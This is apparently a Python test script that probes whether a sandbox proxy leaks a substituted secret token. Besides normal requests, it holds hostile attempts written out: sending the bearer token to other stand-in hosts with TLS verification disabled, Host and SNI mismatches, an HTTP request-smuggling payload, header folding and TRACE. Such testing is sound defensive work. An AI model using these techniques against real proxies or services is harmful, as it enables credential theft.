"""What an unmodified program does with a secret that it does not have, and what a hostile one tries."""
import base64, http.client, os, socket, ssl, subprocess, sys, urllib.error, urllib.request

token = os.environ["TOKEN"]
bearer = f"Bearer {token}"
print(token.startswith("sandvmm-secret-"), len(token))


def get(url, fields={}, data=None, context=None):
    request = urllib.request.Request(url, data, {"Authorization": bearer, **fields})
    with urllib.request.urlopen(request, timeout=60, context=context) as answer:
        return answer.headers["X-Back"], answer.read().decode().strip()


def tried(name, attempt):
    try:
        print(name, attempt())
    except (OSError, http.client.HTTPException) as error:
        print(name, type(error).__name__)


# As it is meant.
tried("get", lambda: get("https://api.example/show/get"))
credentials = base64.b64encode(f"me:{token}".encode()).decode()
tried("basic", lambda: get("https://api.example/show/basic", {"Authorization": f"Basic {credentials}"}))

# In a path and in a body, with a length and in chunks, it is not replaced.
tried("path", lambda: get(f"https://api.example/show/{token}?k={token}"))
tried("body", lambda: get("https://api.example/show/body", data=f"[{token}]".encode()))
connection = http.client.HTTPSConnection("api.example", timeout=60)
connection.request("POST", "/show/chunks", iter([b"[", token.encode(), b"]"]), {"Authorization": bearer}, encode_chunked=True)
print("chunks", connection.getresponse().read().decode().strip())
connection.request("GET", "/show/kept", headers={"Authorization": bearer})
print("kept", connection.getresponse().read().decode().strip())

# Nor for other hosts, nor in the clear.
blind = ssl._create_unverified_context()
tried("other", lambda: get("https://allowed.example/show/other", context=blind)[1] == f"you are {bearer}")
tried("clear", lambda: get("http://api.example/show/clear")[1] == f"you are {bearer}")

# A server that can't show that it is the host gets nothing.
tried("bad", lambda: get("https://bad.example/show/bad"))


def raw(text, name="api.example"):
    with ssl.create_default_context().wrap_socket(socket.create_connection(("api.example", 443), 60), server_hostname=name) as stream:
        stream.sendall(text.format(bearer).encode())
        return stream.makefile("rb").readline()


tried("host", lambda: raw("GET /show/host HTTP/1.1\r\nHost: allowed.example\r\nAuthorization: {}\r\n\r\n"))
tried("sni", lambda: raw("GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n", "allowed.example"))
tried("smuggled", lambda: raw("POST /show/smuggled HTTP/1.1\r\nHost: api.example\r\nAuthorization: {}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"))
tried("folded", lambda: raw("GET /show/folded HTTP/1.1\r\nHost: api.example\r\nX: a\r\n Authorization: {}\r\n\r\n"))
tried("trace", lambda: raw("TRACE /show/trace HTTP/1.1\r\nHost: api.example\r\nAuthorization: {}\r\n\r\n"))

# curl, as another machine has it.
if os.path.exists("curl"):
    curl = ["curl/ld-linux-x86-64.so.2", "--library-path", "curl", "curl/curl", "--silent", "--show-error", "--max-time", "60"]
    header, user = ["--header", f"Authorization: {bearer}"], ["--user", f"me:{token}"]
    for name, credentials in (("curl", header), ("curl-user", user)):
        done = subprocess.run([*curl, *credentials, f"https://api.example/show/{name}"], capture_output=True, text=True)
        print(name, done.stdout.strip(), done.stderr)
    # The same over HTTP/2, with a body.
    more = ["--data", f"[{token}]", "--write-out", "%{stderr}HTTP/%{http_version}"]
    for name, credentials in (("http2", header), ("http2-user", user)):
        done = subprocess.run([*curl, *credentials, *more, f"https://api.example:8443/show/{name}"], capture_output=True, text=True)
        print(name, done.stdout.strip(), done.stderr)

sys.stdout.flush()
urllib.request.urlopen("http://allowed.example/wait", timeout=300).read()
print(token in os.environ["TOKEN"])
